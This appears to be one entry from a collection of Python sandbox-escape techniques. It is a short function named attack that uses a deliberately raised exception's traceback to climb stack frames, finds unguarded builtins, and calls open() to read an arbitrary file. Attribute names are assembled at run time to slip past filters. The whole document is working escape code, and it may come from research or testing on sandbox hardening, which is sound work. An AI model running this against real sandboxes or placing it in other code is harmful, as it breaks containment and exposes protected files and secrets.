# The same by `getattr`, with names made at run time.
# after: read
# source: pyjail: traceback frames
class C:
    def __enter__(self): return self
    def __exit__(self, kind, error, tb):
        self.frame = getattr(getattr(tb, "tb_" + "frame"), "f_" + "back")
        return True
def attack(path, **_):
    c = C()
    with c:
        1 / 0
    frame = c.frame
    while frame:
        found = getattr(frame, "f_" + "builtins")
        if "guard:read" not in found:
            return {"text": found["open"](path).read()}
        frame = getattr(frame, "f_" + "back")
